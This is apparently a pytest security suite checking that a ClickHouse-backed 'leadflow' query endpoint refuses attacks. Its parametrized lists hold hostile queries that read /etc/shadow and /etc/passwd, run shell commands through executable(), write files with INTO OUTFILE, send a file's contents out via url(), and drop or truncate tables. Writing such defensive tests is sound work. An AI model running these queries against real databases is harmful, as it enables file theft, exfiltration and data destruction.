"""Attacks on `/leadflow/query` of a real `leadflow store serve`: each is refused and harmless (no file read back or
written, no request sent out, nothing changed in leadflow's tables) and the store answers on."""

from __future__ import annotations

import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.attacks import CANARY, Listener
from tests.security.conftest import Served

pytestmark = [pytest.mark.security, pytest.mark.timeout(300)]


@pytest.fixture(scope="module")
def before(served: Served) -> dict[str, tuple[int, int]]:
    """Leadflow's tables as they were before any attack."""
    return served.pages.fingerprint()


@pytest.fixture(autouse=True)
def harmless(served: Served, listener: Listener, before: dict[str, tuple[int, int]]) -> Iterator[None]:
    """After each attack: no file written, nothing heard by the listener, the tables unchanged, the store answering."""
    yield
    assert list(served.traces.iterdir()) == [], "an attack wrote a file"
    assert listener.heard == [], f"an attack sent a request out: {listener.heard[:3]}"
    assert served.pages.fingerprint() == before, "an attack changed leadflow's tables"
    assert served.pages.query("SELECT count() FROM events").status == 200


@pytest.mark.parametrize(
    "token", [None, "", "wrong", "Basic dXNlcjpwYXNz", "x" * 43], ids=["none", "empty", "short", "basic", "guessed"]
)
def test_without_the_token_the_query_page_answers_401_and_runs_nothing(served: Served, token: str | None) -> None:
    answer = served.pages.query(f"SELECT file('{served.canary}')", token=token)
    assert answer.status == 401 and CANARY not in answer.text
    assert "Authorization: Bearer" in answer.body["error"]


def reads_of_files(canary: Path) -> list[str]:
    return [
        f"SELECT * FROM file('{canary}', 'LineAsString')",
        f"SELECT file('{canary}')",
        "SELECT count() FROM file('/etc/shadow', 'LineAsString')",
        f"SELECT * FROM sqlite('{canary}', 't')",
        f"SELECT * FROM icebergLocal('{canary.parent}')",
        "SELECT * FROM executable('cat /etc/passwd', 'LineAsString', 'a String')",
        f"SELECT * FROM fileCluster('default', '{canary}')",
        f"SELECT * FROM events WHERE id = file('{canary}')",
        f"WITH (SELECT file('{canary}')) AS s SELECT s",
        f"SELECT arrayMap(x -> file(x), ['{canary}'])",
    ]


@pytest.mark.parametrize("attack", range(10))
def test_reading_files_is_refused(served: Served, attack: int) -> None:
    answer = served.pages.query(reads_of_files(served.canary)[attack])
    assert answer.status == 400 and CANARY not in answer.text, answer.text


@pytest.mark.parametrize(
    "attack",
    [
        "SELECT 'x' INTO OUTFILE '{traces}/outfile.txt'",
        "SELECT 'x' INTO OUTFILE '{traces}/outfile.txt' TRUNCATE FORMAT CSV",
        "WITH 1 AS x INSERT INTO FUNCTION file('{traces}/fn.csv', 'CSV', 'a UInt8') SELECT 1",
        "INSERT INTO FUNCTION file('{traces}/fn.csv', 'CSV', 'a UInt8') VALUES (1)",
        "CREATE TABLE written (a UInt8) ENGINE = File(CSV, '{traces}/engine.csv')",
        "SELECT * FROM (SELECT 1) INTO OUTFILE '{traces}/sub.txt'",
        "SELECT 1 -- \nINTO OUTFILE '{traces}/after-comment.txt'",
    ],
)
def test_writing_files_is_refused(served: Served, attack: str) -> None:
    assert served.pages.query(attack.format(traces=served.traces)).status == 400


@pytest.mark.parametrize(
    "attack",
    [
        "SELECT * FROM url('http://{to}/?d=' || (SELECT file('{canary}')), 'LineAsString')",
        "WITH 1 AS x INSERT INTO FUNCTION url('http://{to}/x', 'CSV', 'a String') SELECT file('{canary}')",
        "SELECT * FROM url('http://{to}/x', 'LineAsString')",
        "SELECT * FROM remote('{to}', system.one)",
        "SELECT * FROM remoteSecure('{to}', system.one)",
        "SELECT * FROM s3('http://{to}/leadflow/key.csv', 'CSV', 'a String')",
        "SELECT * FROM mysql('{to}', 'db', 't', 'u', 'p')",
        "SELECT * FROM postgresql('{to}', 'db', 't', 'u', 'p')",
        "SELECT * FROM redis('{to}', 'k', 'k String')",
        "SELECT * FROM mongodb('{to}', 'db', 'c', 'u', 'p', 'a String')",
        "SELECT * FROM azureBlobStorage('http://{to}/x', 'c', 'b')",
        "SELECT * FROM hdfs('hdfs://{to}/x', 'TSV', 'a String')",
        "SELECT aiGenerate('say {to}')",
    ],
)
def test_sending_requests_out_is_refused(served: Served, listener: Listener, attack: str) -> None:
    answer = served.pages.query(attack.format(to=listener.address, canary=served.canary))
    assert answer.status == 400 and CANARY not in answer.text, answer.text


@pytest.mark.parametrize(
    "attack",
    [
        "WITH 1 AS x INSERT INTO store_runs SELECT now(), 'replay', toDateTime64('2099-01-01', 3)",
        "INSERT INTO store_runs VALUES (now(), 'replay', now())",
        "ALTER TABLE events DELETE WHERE 1",
        "ALTER TABLE lead_snapshots UPDATE revision = 18446744073709551615 WHERE 1",
        "TRUNCATE TABLE events",
        "DROP TABLE events",
        "OPTIMIZE TABLE events FINAL",
        "CREATE TABLE x (a UInt8) ENGINE = Memory",
        "CREATE TEMPORARY TABLE x (a UInt8)",
        "RENAME TABLE events TO gone",
        "SYSTEM DROP MARK CACHE",
        "KILL QUERY WHERE 1",
        "SET readonly = 0",
        "SELECT 1; DROP TABLE events",
    ],
)
def test_writes_and_changes_through_the_query_page_are_refused(served: Served, attack: str) -> None:
    assert served.pages.query(attack).status == 400


@pytest.mark.parametrize(
    "attack",
    [
        "SELECT * FROM system.settings",
        "SELECT name, value FROM system.settings WHERE name = 'readonly'",
        "SELECT * FROM system.processes",
        "SELECT * FROM system.disks",
        "SELECT * FROM information_schema.tables",
        "SELECT 1 FROM events WHERE id IN system.users",
        "SELECT * FROM merge('system', '^')",
        "SELECT getSetting('max_execution_time')",
        "SELECT hostName(), uptime()",
        "SELECT * FROM {t:Identifier}",
    ],
)
def test_reading_outside_leadflows_tables_is_refused(served: Served, attack: str) -> None:
    assert served.pages.query(attack, parameters={"t": "system.users"}).status == 400


@pytest.mark.parametrize(
    "attack",
    [
        "SELECT count() FROM events SETTINGS readonly = 0",
        "SELECT count() FROM events SETTINGS max_execution_time = 0",
        "SELECT count() FROM events SETTINGS max_memory_usage = 0",
        "SELECT count() FROM events SETTINGS max_result_rows = 0",
        "SELECT count() FROM events SETTINGS allow_introspection_functions = 1",
    ],
)
def test_a_settings_clause_cannot_lift_the_limits(served: Served, attack: str) -> None:
    answer = served.pages.query(attack)
    assert answer.status == 400 and "readonly mode" in answer.body["error"]


def test_a_read_past_the_time_limit_ends_with_a_clear_error_and_holds_nothing_else_back(served: Served) -> None:
    long: dict[str, object] = {}

    def read() -> None:
        began = time.monotonic()
        long["answer"], long["seconds"] = served.pages.query("SELECT count() FROM numbers(1e12)"), None
        long["seconds"] = time.monotonic() - began

    reading = threading.Thread(target=read)
    reading.start()
    time.sleep(1.0)
    began = time.monotonic()
    assert served.pages.query("SELECT count() FROM lead_snapshots FINAL").status == 200
    written = served.pages.insert({"table": "dead_letters", "columns": ["topic"], "rows": []})
    assert written.status == 200 and time.monotonic() - began < 2.0, "a long read held another read or a write back"
    reading.join(30)
    answer = long["answer"]
    assert answer.status == 400 and "TIMEOUT_EXCEEDED" in answer.body["error"]  # type: ignore[attr-defined]
    assert long["seconds"] < 8  # LEADFLOW_STORE_QUERY_TIMEOUT=4 for this service


def test_a_read_past_the_memory_limit_ends_with_a_clear_error_and_the_process_stays_small(served: Served) -> None:
    answer = served.pages.query("SELECT length(groupArray(number)) FROM numbers(250000000)")
    assert answer.status == 400 and "MEMORY_LIMIT_EXCEEDED" in answer.body["error"]
    assert served.service.process is not None
    peak = _peak_rss_bytes(served.service.process.pid)
    assert peak < 1.5 * 1024**3, f"the store service peaked at {peak / 1024**3:.2f} GiB"


def test_a_result_past_the_row_limit_ends_with_a_clear_error(served: Served) -> None:
    answer = served.pages.query("SELECT number FROM numbers(2000000)")
    assert answer.status == 400 and "TOO_MANY_ROWS_OR_BYTES" in answer.body["error"]
    assert served.pages.query("SELECT 42").body == {"rows": [[42]]}


def _peak_rss_bytes(pid: int) -> int:
    """Return a process's peak resident memory (VmHWM)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmHWM for PID {pid}")


def test_leadflows_own_reads_are_answered(served: Served) -> None:
    store = served.pages.store()
    assert store.query("SELECT count() FROM events FINAL")[0][0] > 1000
    columns = store.describe("SELECT lead_id, revision FROM lead_snapshots")
    assert columns == [("lead_id", "String"), ("revision", "UInt64")]
    assert os.path.exists(served.canary)
